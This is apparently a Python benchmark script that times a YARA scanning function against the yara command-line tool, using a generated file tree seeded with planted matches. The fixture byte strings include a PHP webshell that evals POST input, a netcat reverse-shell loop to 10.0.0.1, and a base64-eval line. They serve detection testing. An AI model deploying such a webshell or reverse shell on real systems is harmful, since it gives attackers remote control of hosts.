"""The YARA row: fs::yara against `yara -r -N` (Debian's yara), the same
rules (yara_rules.yar) on the benchmark's tree layout, with content: text
files of 200 B to 2 KiB, a few of them planted with what the rules look for.
"""

import os

import parse
from engine import Contender, Row, measure, set_diff
from harness import log

RULES = os.path.join(os.path.dirname(os.path.abspath(__file__)), "yara_rules.yar")
FILLER = (b"GET /index.php?id=%d HTTP/1.1 200 512 \"-\" \"Mozilla/5.0\"\n"
          b"<div class=\"row\">lorem ipsum dolor sit amet %d</div>\n")
WEBSHELL = b"<?php // HOUND-YARA-FIXTURE-7b1e\nif (isset($_POST['c'])) { eval($_POST['c']); }\n"
PLANTS = [  # (every n-th file, bytes put at its start, rule it triggers)
    (997, WEBSHELL, "bench_webshell"),
    (1999, b"while true; do nc -e 10.0.0.1 /bin/sh; sleep 2; done\n", "bench_reverse_shell"),
    (2503, "ReVeRsE_ShElL".encode("utf-16-le"), "bench_reverse_shell"),
    (3001, b"\x7fELF\x02\x01\x01\x00", "bench_elf_in_web_tree"),
    (4001, b"<?php eval(BASE64_DECODE('ZXZhbChiYXNlNjRfZGVjb2Rl')); ?>\n", "bench_b64_eval"),
]


def make_tree(root, tasks_make_tree, n):
    """The file-hunt tree (same names, symlinks, modes) with content:
    returns the expected (rule, path) matches."""
    expected = set()

    def content(i, path):
        body = b""
        for every, plant, rule in PLANTS:
            if i % every == 0:
                body += plant
                expected.add((rule, path))
        reps = 2 + (i * 7919) % 15
        return body + b"".join(FILLER % (i + k, k) for k in range(reps))

    tasks_make_tree(root, n, content)
    return frozenset(expected)


def yara_hunt(ctx, tasks):
    root = ctx.cleanup.tempdir("ytree")
    ctx.replace[root] = "$YTREE"
    ctx.replace[RULES] = "scripts/bench.d/yara_rules.yar"
    log(f"  [yara] creating {ctx.files:,} files with content in {root}")
    expected = make_tree(root, tasks.make_tree, ctx.files)

    def yara_content(out):
        pairs = set()
        for line in out.splitlines():
            if line.strip():
                rule, _, path = line.partition(" ")
                pairs.add((rule, path))
        return frozenset(pairs)

    r, rules = tasks.rhai_str(root), tasks.rhai_str(RULES)
    hound = tasks.hound_contender(ctx, None, "yara", [f"fs::yara({r}, {rules}, #{{evidence: false}})"],
                                  parse.hound_yara)
    # -N: hound never follows symlinks; yara does unless told.
    yara = Contender("yara", ["yara", "-r", "-N", RULES, root], yara_content)
    tasks.record(ctx, "yara", hound, yara)
    measure("yara", [hound, yara], ctx.runs, ctx.warmup)

    def cmp(a, b, la, lb):
        out = set_diff("matches", a, b, la, lb, limit=5)
        for side, label in ((a, la), (b, lb)):
            if side != expected:
                out.append(f"{label} did not find exactly the {len(expected)} planted matches")
        return out

    row = Row(f"YARA, {ctx.files:,} files (4 rules)", hound, yara, cmp, tasks.goal_speed(1))
    row.note = f"{len(expected)} planted matches"
    return [row]
